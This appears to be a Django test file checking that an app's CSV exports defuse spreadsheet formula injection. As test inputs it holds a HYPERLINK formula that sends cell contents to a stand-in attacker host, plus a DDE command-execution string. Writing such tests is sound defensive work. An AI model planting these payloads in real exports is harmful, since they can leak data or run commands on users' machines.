"""Every CSV export neutralises formula-like cells (OWASP CSV injection): the text is
prefixed with a quote, plain numbers (a negative amount included) are left alone."""

from __future__ import annotations

from django.core.files.base import ContentFile
from django.test import SimpleTestCase
from django.urls import reverse

from recouvra.core.csvexport import safe_cell
from recouvra.imports.models import ImportBatch, ImportRowError

from ..base import RecouvraTestCase

HOSTILE_NAME = '=HYPERLINK("http://attacker.example/?x="&A1;"cliquez").csv'


class SafeCellTestCase(SimpleTestCase):
    def test_it_quotes_text_that_a_spreadsheet_would_run(self) -> None:
        for text in ("=1+1", "+33 cmd", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "-cmd|' /C calc'!A0"):
            self.assertEqual(safe_cell(text), "'" + text, repr(text))

    def test_it_leaves_plain_numbers_and_other_text_alone(self) -> None:
        amounts = ("-12,50", "-1 234,56", "-1\u202f234,56\u00a0€", "+3.5", "12", 42, -1250)
        for value in (*amounts, "Dubois", "FA-2026-001"):
            self.assertEqual(safe_cell(value), value, repr(value))


class RejectedRowsCsvTestCase(RecouvraTestCase):
    def test_a_file_name_starting_with_equals_does_not_become_a_formula(self) -> None:
        batch = ImportBatch.objects.create(
            organization=self.alpha,
            filename=HOSTILE_NAME,
            file=ContentFile(b"x", name="upload.csv"),
            sha256="0" * 64,
            uploaded_by=self.alice,
        )
        ImportRowError.objects.create(
            organization=self.alpha, batch=batch, line=3, field="amount_cents", reason="-12,50"
        )
        self.client.force_login(self.alice)
        response = self.client.get(reverse("imports:errors_csv", args=[batch.pk]))
        lines = response.content.decode("utf-8-sig").splitlines()
        self.assertTrue(lines[1].startswith("\"'=HYPERLINK("), lines[1])
        self.assertTrue(lines[1].endswith(";-12,50"), lines[1])
